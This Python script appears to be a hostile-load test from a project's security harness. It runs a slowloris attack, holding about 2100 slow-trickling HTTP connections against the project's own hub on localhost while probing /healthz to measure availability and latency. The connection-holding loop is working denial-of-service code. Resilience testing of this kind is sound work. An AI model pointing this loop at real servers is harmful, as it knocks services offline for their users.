#!/usr/bin/env python3
"""Issue 13 finding 4: HTTP slowloris. 2100 connections from 127.0.0.2 each send one header byte every 2 s (closed ones
are reopened, so the wave keeps its size for 30 s), while /healthz is probed from 127.0.0.1 once a second. Prints the
harness's JSON line: hub RSS before / peak / 30 s after, the steady (TCP) viewer's fps, and in attack_result the share
of /healthz probes answered and their latency, and what the server did with the attacker's connections.

usage: scripts/hostile/http-slowloris.py [--connections 2100] [--seconds 30] [serve args ...]
"""
import os
import socket
import statistics
import sys
import threading
import time
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import Hub, bounded, parse_opts  # noqa: E402

ATTACKER = "127.0.0.2"


def args():
    opts, rest = parse_opts({"--connections": 2100, "--seconds": 30})
    return opts["--connections"], opts["--seconds"], rest


def healthz(port):
    started = time.time()
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=5) as r:
            ok = r.status == 200 and r.read().strip() == b"ok"
    except Exception:  # noqa: BLE001 - a refused, reset or timed-out probe is the figure being measured
        ok = False
    return ok, (time.time() - started) * 1000


def open_slow(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((ATTACKER, 0))
    s.settimeout(2)
    try:
        s.connect(("127.0.0.1", port))
        s.send(b"G")
        s.setblocking(False)
        return s
    except OSError:
        s.close()
        return None


def closed_by_server(s):
    try:
        return s.recv(4096) == b""  # FIN (or a 408 first; the next look sees the FIN)
    except BlockingIOError:
        return False
    except OSError:
        return True


def attack(hub, connections, seconds):
    port = hub.http
    baseline = [healthz(port)[1] for _ in range(5)]
    probes = []
    stop = threading.Event()

    def probe():
        while not stop.is_set():
            ok, ms = healthz(port)
            probes.append((ok, ms))
            stop.wait(max(0.0, 1.0 - ms / 1000))

    prober = threading.Thread(target=probe, daemon=True)
    prober.start()
    socks, opened, failed_connects, server_closed, held_max = [], 0, 0, 0, 0
    for _ in bounded(seconds):
        round_start = time.time()
        # Keep the wave at its size: reopen what the server closed.
        while len(socks) < connections and time.time() - round_start < 1.5:
            s = open_slow(port)
            if s is None:
                failed_connects += 1
            else:
                socks.append(s)
                opened += 1
        alive = []
        for s in socks:
            if closed_by_server(s):
                server_closed += 1
                s.close()
                continue
            try:
                s.send(b"E")
                alive.append(s)
            except OSError:
                server_closed += 1
                s.close()
        socks = alive
        held_max = max(held_max, len(socks))
        time.sleep(max(0.0, 2.0 - (time.time() - round_start)))
    for s in socks:
        s.close()
    stop.set()
    prober.join(10)
    answered = [ms for ok, ms in probes if ok]
    lat = sorted(ms for _, ms in probes)
    return {
        "connections": connections,
        "opened": opened,
        "connect_failures": failed_connects,
        "closed_by_server": server_closed,
        "held_after_a_round_max": held_max,
        "healthz": {
            "probes": len(probes),
            "answered": len(answered),
            "answered_share": round(len(answered) / len(probes), 3) if probes else None,
            "latency_ms_p50": round(statistics.median(lat), 1) if lat else None,
            "latency_ms_max": round(max(lat), 1) if lat else None,
            "before_attack_ms_p50": round(statistics.median(baseline), 1),
        },
    }


def main():
    connections, seconds, rest = args()
    with Hub(rest) as hub:
        hub.measure(attack=lambda: attack(hub, connections, seconds), name="http-slowloris", attack_seconds=seconds)


if __name__ == "__main__":
    main()
